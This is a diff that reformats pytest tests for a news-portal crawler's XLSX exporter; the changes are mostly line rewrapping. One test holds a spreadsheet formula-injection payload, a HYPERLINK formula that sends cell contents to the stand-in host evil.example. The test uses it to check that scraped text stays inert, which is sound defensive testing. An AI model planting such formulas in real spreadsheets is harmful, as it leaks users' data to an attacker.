@@ -57,7 +57,9 @@ def test_typed_cells_in_vietnam_time(crawled):
     assert published.number_format == "yyyy-mm-dd hh:mm:ss"
     assert seed["views"].data_type == "n" and seed["views"].value == 137
     assert seed["views_raw"].value == "137" and seed["views_raw"].data_type == "s"
-    assert seed["published_date_only"].value is False and seed["published_date_only"].data_type == "b"
+    assert (
+        seed["published_date_only"].value is False and seed["published_date_only"].data_type == "b"
+    )
     assert seed["duplicate_of"].value is None  # null: an empty cell
     assert seed["province_code"].value == "37"  # a code stays text (leading zeros elsewhere)
     assert seed["title"].value == "Hội nghị trực tuyến công tác Dân vận năm 2021"
@@ -79,21 +81,34 @@ def test_typed_cells_in_vietnam_time(crawled):
 
 def test_filters_and_fields_apply(crawled):
     out = io.BytesIO()
-    count = export_articles(crawled, out, "xlsx", site=["hn-sotttt"], fields=["title", "views"],
-                            since=date(2010, 1, 1))
+    count = export_articles(
+        crawled, out, "xlsx", site=["hn-sotttt"], fields=["title", "views"], since=date(2010, 1, 1)
+    )
     header, rows = records(workbook(out.getvalue()))
     assert header == ["title", "views"] and count == len(rows) == 4
     assert {"title": UPU_TITLE, "views": 38661} in [
-        {k: c.value for k, c in r.items()} for r in rows]
+        {k: c.value for k, c in r.items()} for r in rows
+    ]
 
 
 def test_scraped_text_stays_text_and_fits_excel(store):
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
-    store.upsert_articles([
-        {"canonical_url": "http://x.gov.vn/a", "url": "http://x.gov.vn/a", "site_id": "x",
-         "title": hostile, "author": "@admin", "summary": "Tin\x00 \x0bngắn\x1f",
-         "body": "Nội dung " * 5000, "views": 10**16, "published_at": None},
-    ], datetime(2024, 1, 1, tzinfo=UTC))
+    store.upsert_articles(
+        [
+            {
+                "canonical_url": "http://x.gov.vn/a",
+                "url": "http://x.gov.vn/a",
+                "site_id": "x",
+                "title": hostile,
+                "author": "@admin",
+                "summary": "Tin\x00 \x0bngắn\x1f",
+                "body": "Nội dung " * 5000,
+                "views": 10**16,
+                "published_at": None,
+            },
+        ],
+        datetime(2024, 1, 1, tzinfo=UTC),
+    )
     out = io.BytesIO()
     export_articles(store, out, "xlsx", fields=["title", "author", "summary", "body", "views"])
     _, [row] = records(workbook(out.getvalue()))
@@ -119,27 +134,36 @@ def test_a_new_sheet_past_the_row_limit(monkeypatch):
     book = workbook(out.getvalue())
     assert book.sheetnames == ["articles", "articles (2)", "articles (3)", "about"]
     values = [list(book[name].values) for name in book.sheetnames[:3]]
-    assert values == [[("title", "views"), ("Tin 0", 0), ("Tin 1", 1)],
-                      [("title", "views"), ("Tin 2", 2), ("Tin 3", 3)],
-                      [("title", "views"), ("Tin 4", 4)]]
+    assert values == [
+        [("title", "views"), ("Tin 0", 0), ("Tin 1", 1)],
+        [("title", "views"), ("Tin 2", 2), ("Tin 3", 3)],
+        [("title", "views"), ("Tin 4", 4)],
+    ]
 
 
 def test_no_article_is_a_header_row(store):
     out = io.BytesIO()
     assert export_articles(store, out, "xlsx", fields=["title", "published_at"]) == 0
     assert list(workbook(out.getvalue())["articles"].values) == [
-        ("title", "published_at (Vietnam time)")]
+        ("title", "published_at (Vietnam time)")
+    ]
 
 
 def _peak(rows: int) -> int:
-    docs = ({"canonical_url": f"http://x.gov.vn/{i}", "title": f"Hội nghị số {i}",
-             "body": "Phát biểu chỉ đạo tại hội nghị. " * 100, "views": i,
-             "published_at": datetime(2021, 1, 1, tzinfo=UTC), "images": [{"url": "a.jpg"}]}
-            for i in range(rows))
+    docs = (
+        {
+            "canonical_url": f"http://x.gov.vn/{i}",
+            "title": f"Hội nghị số {i}",
+            "body": "Phát biểu chỉ đạo tại hội nghị. " * 100,
+            "views": i,
+            "published_at": datetime(2021, 1, 1, tzinfo=UTC),
+            "images": [{"url": "a.jpg"}],
+        }
+        for i in range(rows)
+    )
     tracemalloc.start()
     with open(os.devnull, "wb") as out:
-        write_xlsx(out, docs, ["canonical_url", "title", "body", "views", "published_at",
-                               "images"])
+        write_xlsx(out, docs, ["canonical_url", "title", "body", "views", "published_at", "images"])
     peak = tracemalloc.get_traced_memory()[1]
     tracemalloc.stop()
     return peak
@@ -155,13 +179,21 @@ def test_memory_stays_flat_in_the_number_of_rows():
 def test_dataclass_items_through_itemadapter():
     when = datetime(2021, 3, 15, 3, 20, tzinfo=UTC)
     items = [
-        ArticleItem(url="http://x.gov.vn/a", site_id="x", cms="vnportal", title="Tin",
-                    published_at=when, views=5, images=[{"url": "a.jpg", "caption": None}]),
+        ArticleItem(
+            url="http://x.gov.vn/a",
+            site_id="x",
+            cms="vnportal",
+            title="Tin",
+            published_at=when,
+            views=5,
+            images=[{"url": "a.jpg", "caption": None}],
+        ),
         SiteStatsItem(site_id="x", url="http://x.gov.vn/", captured_at=when, total=9),
     ]
     out = io.BytesIO()
-    exporter = XlsxItemExporter(out, fields_to_export=["site_id", "title", "published_at",
-                                                       "views", "images", "total"])
+    exporter = XlsxItemExporter(
+        out, fields_to_export=["site_id", "title", "published_at", "views", "images", "total"]
+    )
     exporter.start_exporting()
     for item in items:
         exporter.export_item(item)
@@ -169,8 +201,7 @@ def test_dataclass_items_through_itemadapter():
     rows = list(workbook(out.getvalue())["articles"].values)
     assert rows == [
         ("site_id", "title", "published_at (Vietnam time)", "views", "images", "total"),
-        ("x", "Tin", datetime(2021, 3, 15, 10, 20), 5, '[{"url": "a.jpg", "caption": null}]',
-         None),
+        ("x", "Tin", datetime(2021, 3, 15, 10, 20), 5, '[{"url": "a.jpg", "caption": null}]', None),
         ("x", None, None, None, None, 9),  # a field the item type lacks: an empty cell
     ]
 
@@ -181,12 +212,29 @@ def test_scrapy_feed_of_a_crawl(make_portal, tmp_path):
     target = tmp_path / "articles.xlsx"
     feeds = {str(target): {"format": "xlsx", "item_classes": ["crawler.items.ArticleItem"]}}
     result = subprocess.run(
-        [sys.executable, "-m", "scrapy", "crawl", "portal", "-a", "site=nd-giaothuy",
-         "-a", f"base_url={portal.base_url}", *FAST,
-         "-s", 'FEED_EXPORTERS={"xlsx": "crawler.analytics.xlsx.XlsxItemExporter"}',
-         "-s", f"FEEDS={json.dumps(feeds)}"],
-        cwd=ROOT, env=cli_env(tmp_path / "data"), capture_output=True, text=True, timeout=300,
-        check=False)
+        [
+            sys.executable,
+            "-m",
+            "scrapy",
+            "crawl",
+            "portal",
+            "-a",
+            "site=nd-giaothuy",
+            "-a",
+            f"base_url={portal.base_url}",
+            *FAST,
+            "-s",
+            'FEED_EXPORTERS={"xlsx": "crawler.analytics.xlsx.XlsxItemExporter"}',
+            "-s",
+            f"FEEDS={json.dumps(feeds)}",
+        ],
+        cwd=ROOT,
+        env=cli_env(tmp_path / "data"),
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
     assert result.returncode == 0, result.stderr[-3000:]
     header, rows = records(openpyxl.load_workbook(target))
     assert len(rows) == 5 and "fetched_at (Vietnam time)" in header
@@ -198,8 +246,9 @@ def test_scrapy_feed_of_a_crawl(make_portal, tmp_path):
 # -- the command -----------------------------------------------------------------------------
 def test_export_xlsx_command(crawled_dir, tmp_path, run_in):
     out = tmp_path / "gt.xlsx"
-    result = run_in(crawled_dir, "export", "--format", "xlsx", "--site", "nd-giaothuy",
-                    "--out", str(out))
+    result = run_in(
+        crawled_dir, "export", "--format", "xlsx", "--site", "nd-giaothuy", "--out", str(out)
+    )
     assert result.returncode == 0, result.stderr[-2000:]
     assert "exported 5 articles to" in result.stderr
     _, rows = records(openpyxl.load_workbook(out))
@@ -207,7 +256,12 @@ def test_export_xlsx_command(crawled_dir, tmp_path, run_in):
     # standard output redirected: a pipe, not a terminal
     stdout = subprocess.run(
         [sys.executable, "-m", "crawler", "export", "--format", "xlsx", "--fields", "title"],
-        cwd=ROOT, env=cli_env(crawled_dir), capture_output=True, timeout=300, check=True).stdout
+        cwd=ROOT,
+        env=cli_env(crawled_dir),
+        capture_output=True,
+        timeout=300,
+        check=True,
+    ).stdout
     assert len(list(workbook(stdout)["articles"].values)) == 10
 
 
@@ -215,15 +269,22 @@ def test_export_xlsx_to_a_terminal_is_refused(crawled_dir):
     leader, follower = pty.openpty()
     try:
         result = subprocess.run(
-            [sys.executable, "-m", "crawler", "export", "--format", "xlsx"], cwd=ROOT,
-            env=cli_env(crawled_dir), stdout=follower, stderr=subprocess.PIPE, text=True,
-            timeout=300, check=False)
+            [sys.executable, "-m", "crawler", "export", "--format", "xlsx"],
+            cwd=ROOT,
+            env=cli_env(crawled_dir),
+            stdout=follower,
+            stderr=subprocess.PIPE,
+            text=True,
+            timeout=300,
+            check=False,
+        )
     finally:
         os.close(follower)
         os.close(leader)
     assert result.returncode == 1
     assert result.stderr.splitlines() == [
-        "export: xlsx is a binary file: give --out FILE.xlsx (or redirect standard output)"]
+        "export: xlsx is a binary file: give --out FILE.xlsx (or redirect standard output)"
+    ]
 
 
 def test_a_feed_opened_to_append(tmp_path):
